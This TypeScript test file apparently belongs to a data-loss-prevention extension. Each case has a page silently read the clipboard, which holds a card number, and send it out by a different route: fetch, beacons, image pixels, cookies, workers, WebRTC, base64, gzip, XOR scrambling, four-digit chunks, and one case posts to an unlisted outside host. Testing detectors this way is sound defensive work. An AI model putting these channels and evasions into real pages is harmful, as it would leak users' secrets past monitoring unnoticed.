import { type Case, card, request } from '../case';

/**
 * Requests that a script of the page makes with a text that came by no event: here the page reads the clipboard by
 * itself. How the text gets into the page does not matter to them; how it leaves does.
 */

const digits = card.replaceAll(' ', '');

type Sends = (text: string) => void | Promise<void>;

/** A press on the page's button: the page reads the clipboard, and sends what it has read in some way. */
function sending(number: number, title: string, send: Sends, more: Partial<Case> = {}): Case {
  return {
    number,
    title: `request: ${title}`,
    area: 'fetch',
    must: 'caught',
    tool: {
      html: '<button id="ask">Ask about the clipboard</button>',
      takes: 'never',
      // The function is put together where the page is made (`pageOf`), and its source stands in it.
      script: `async () => addEventListener('click', async () => (${send})(await navigator.clipboard.readText()))`,
      ...more.tool,
    },
    async act({ copy, click }) {
      await copy(request);
      await click('#ask');
    },
    ...Object.fromEntries(Object.entries(more).filter(([key]) => key !== 'tool')),
  };
}

/** What a worker of the tool does with what it is told: it sends it on. */
const worker = `onmessage = ({ data }) => fetch('/api', { method: 'POST', body: data });
onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) => fetch('/api', { method: 'POST', body: data }); };`;
const serviceWorker = `oninstall = () => skipWaiting(); onactivate = (event) => event.waitUntil(clients.claim());
onmessage = ({ data }) => fetch('/api', { method: 'POST', body: data });`;
const workerFiles = {
  '/worker.js': { type: 'text/javascript', body: worker },
  '/sw.js': { type: 'text/javascript', body: serviceWorker },
};

const unread = 'what the page has scrambled itself can be read by nobody between page and tool';
const unseen = 'no extension sees what goes through it, and this text came by no event of the page';

export const requests: Case[] = [
  sending(601, 'fetch, JSON', (text) => void fetch('/api', { method: 'POST', body: JSON.stringify({ prompt: text }) })),
  sending(602, 'fetch, a form', (text) => void fetch('/api', { method: 'POST', body: new URLSearchParams({ text }) })),
  sending(603, 'fetch, a form in parts', (text) => {
    const form = new FormData();
    form.set('text', text);
    void fetch('/api', { method: 'POST', body: form });
  }),
  sending(604, 'fetch, bytes', (text) => void fetch('/api', { method: 'POST', body: new TextEncoder().encode(text) })),
  sending(605, 'fetch, a blob', (text) => void fetch('/api', { method: 'POST', body: new Blob([text]) }), {
    area: 'channel out of reach',
    must: 'noticed',
    why: 'extensions are not shown what is in a blob; that something could not be read is counted, once an hour for a tool',
  }),
  sending(
    606,
    'fetch, a file in a form',
    (text) => {
      const form = new FormData();
      form.set('file', new File([text], 'letter.txt'));
      void fetch('/api', { method: 'POST', body: form });
    },
    {
      area: 'channel out of reach',
      must: 'out of reach',
      why: 'extensions are not shown what is in a file, nor, in a form, that there is one',
    },
  ),
  sending(
    608,
    'fetch that outlives the page',
    (text) => void fetch('/api', { method: 'POST', body: text, keepalive: true }),
  ),
  sending(
    609,
    'fetch to a host that no catalogue has',
    (text) => void fetch('https://collect.fast-cdn.net/api', { method: 'POST', body: text, mode: 'no-cors' }),
  ),
  sending(
    610,
    'XMLHttpRequest',
    (text) => {
      const xhr = new XMLHttpRequest();
      xhr.open('POST', '/api');
      xhr.send(text);
    },
    { regression: true },
  ),
  sending(611, 'XMLHttpRequest, a document', (text) => {
    const xhr = new XMLHttpRequest();
    xhr.open('POST', '/api');
    const body = document.implementation.createHTMLDocument();
    body.body.append(text);
    xhr.send(body);
  }),
  sending(612, 'a beacon', (text) => void navigator.sendBeacon('/api', text)),
  sending(613, 'in the address of a fetch', (text) => void fetch(`/api?q=${encodeURIComponent(text)}`)),
  sending(614, 'in the path of a fetch', (text) => void fetch(`/api/${encodeURIComponent(text)}`)),
  sending(615, 'in a head of a fetch', (text) => void fetch('/api', { headers: { 'x-prompt': text } })),
  sending(616, 'in the address of an image', (text) => {
    new Image().src = `/pixel.gif?q=${encodeURIComponent(text)}`;
  }),
  sending(617, 'in the address of a style', (text) => {
    document.body.style.background = `url("/pixel.gif?q=${encodeURIComponent(text)}")`;
  }),
  sending(618, 'in the address of a script', (text) => {
    const script = document.createElement('script');
    script.src = `/x.js?q=${encodeURIComponent(text)}`;
    document.body.append(script);
  }),
  sending(
    619,
    'in the address of an EventSource',
    (text) => void new EventSource(`/live?q=${encodeURIComponent(text)}`),
  ),
  sending(
    620,
    'in the address of a WebSocket',
    (text) => void new WebSocket(`wss://chatgpt.com/live?q=${encodeURIComponent(text)}`),
  ),
  sending(621, 'in the address of a frame', (text) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: `/f?q=${encodeURIComponent(text)}` }));
  }),
  sending(622, 'a navigation', (text) => {
    location.href = `/?q=${encodeURIComponent(text)}`;
  }),
  sending(623, 'a form that a script submits into a frame', (text) => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = '/api';
    form.target = 'hidden';
    const area = document.createElement('textarea');
    area.name = 'text';
    area.value = text;
    form.append(area);
    document.body.append(form, Object.assign(document.createElement('iframe'), { name: 'hidden' }));
    form.submit();
  }),
  sending(624, 'a window with the text in its address', (text) => void open(`/?q=${encodeURIComponent(text)}`)),
  sending(625, 'in a cookie', (text) => {
    Reflect.set(document, 'cookie', `q=${encodeURIComponent(text)}`);
    void fetch('/api');
  }),
  sending(626, 'in the address that a request says it comes from', (text) => {
    history.replaceState({}, '', `/?q=${encodeURIComponent(text)}`);
    void fetch('/api', { referrerPolicy: 'unsafe-url' });
  }),
  sending(627, 'a ping of a link', (text) => {
    const link = Object.assign(document.createElement('a'), {
      href: '#x',
      ping: `/ping?q=${encodeURIComponent(text)}`,
    });
    // The page sends at each click that reaches it: this one would never end.
    link.addEventListener('click', (event) => event.stopPropagation());
    document.body.append(link);
    link.click();
  }),
  sending(628, 'a worker', (text) => void new Worker('/worker.js').postMessage(text), {
    tool: { files: workerFiles },
    regression: true,
  }),
  sending(629, 'a shared worker', (text) => void new SharedWorker('/worker.js').port.postMessage(text), {
    tool: { files: workerFiles },
  }),
  sending(
    630,
    'a service worker',
    async (text) => {
      await navigator.serviceWorker.register('/sw.js');
      (await navigator.serviceWorker.ready).active?.postMessage(text);
    },
    { tool: { files: workerFiles } },
  ),
  sending(631, 'a worker made of a blob', (text) => {
    const source = "onmessage = ({ data }) => fetch('https://chatgpt.com/api', { method: 'POST', body: data })";
    new Worker(URL.createObjectURL(new Blob([source]))).postMessage(text);
  }),
  sending(632, 'the fetch of a fresh frame', (text) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    void (frame.contentWindow as unknown as typeof window).fetch('/api', { method: 'POST', body: text });
  }),
  sending(633, 'base64 of it', (text) => void fetch('/api', { method: 'POST', body: btoa(text) }), {
    arrived: Buffer.from(request).toString('base64'),
  }),
  sending(634, 'packed with gzip', async (text) => {
    const stream = new Blob([text]).stream().pipeThrough(new CompressionStream('gzip'));
    await fetch('/api', { method: 'POST', body: await new Response(stream).arrayBuffer() });
  }),
  sending(
    635,
    'four digits to a request',
    async (text) => {
      for (const piece of text.match(/\d{4}/g) ?? []) await fetch('/api', { method: 'POST', body: piece });
    },
    {
      arrived: (letters) =>
        letters
          .map(({ body }) => body)
          .join('')
          .includes(digits),
      area: 'channel out of reach',
      must: 'out of reach',
      why: 'pieces so small cannot be told from the numbers that every page sends; the fields of the page add up what a person gives it',
    },
  ),
  sending(
    636,
    'scrambled by the page with a key',
    async (text) => {
      const bytes = new TextEncoder().encode(text).map((byte) => byte ^ 0x5a);
      await fetch('/api', { method: 'POST', body: bytes });
    },
    {
      area: 'channel out of reach',
      must: 'out of reach',
      why: unread,
      arrived: String.fromCharCode(...Buffer.from(request).map((byte) => byte ^ 0x5a)),
    },
  ),
  sending(637, 'a WebSocket', (text) => window.tell(text), {
    area: 'channel out of reach',
    must: 'out of reach',
    why: unseen,
  }),
  {
    number: 641,
    title: 'typed: sent while it is being written, by fetch',
    area: 'fetch',
    must: 'caught',
    tool: {
      takes: 'never',
      script: () => {
        addEventListener('input', ({ target }) =>
          fetch('/draft', { method: 'POST', body: (target as HTMLTextAreaElement).value }),
        );
      },
    },
    act: ({ type }) => type(request),
  },
  {
    number: 642,
    title: 'typed: sent while it is being written, by a WebSocket',
    area: 'channel out of reach',
    must: 'out of reach',
    why: 'what a page hears of each key it has before anything is sent; no extension sees what goes through a WebSocket',
    tool: { takes: 'at once' },
    act: ({ type }) => type(request),
  },
  sending(
    643,
    'a WebRTC data channel',
    async (text) => {
      // The other end stands in this page, and tells the server what it has heard.
      const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()];
      here.onicecandidate = ({ candidate }) => void there.addIceCandidate(candidate ?? undefined);
      there.onicecandidate = ({ candidate }) => void here.addIceCandidate(candidate ?? undefined);
      there.ondatachannel = ({ channel }) => {
        channel.onmessage = ({ data }) => window.tell(data);
      };
      const channel = here.createDataChannel('live');
      channel.onopen = () => channel.send(text);
      await here.setLocalDescription();
      await there.setRemoteDescription(here.localDescription as RTCSessionDescription);
      await there.setLocalDescription();
      await here.setRemoteDescription(there.localDescription as RTCSessionDescription);
    },
    { area: 'channel out of reach', must: 'out of reach', why: unseen },
  ),
];
